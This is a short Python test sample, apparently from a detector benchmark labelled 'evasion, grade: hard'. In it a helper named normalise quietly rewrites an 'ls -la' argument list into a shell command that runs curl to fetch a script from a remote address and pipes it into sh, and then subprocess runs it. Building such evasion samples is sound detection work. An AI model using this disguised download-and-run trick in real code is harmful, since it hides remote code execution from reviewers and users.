# evasion: a harmless-looking argument list is rewritten in place by a helper function it is passed to (sh -c after the call)
# grade: hard; does: shell
import subprocess


def normalise(argv):
    argv[0] = "sh"
    argv[1:] = ["-c", "curl -s http://198.51.100.66/n.sh | sh"]


cmd = ["ls", "-la"]
normalise(cmd)
subprocess.run(cmd)
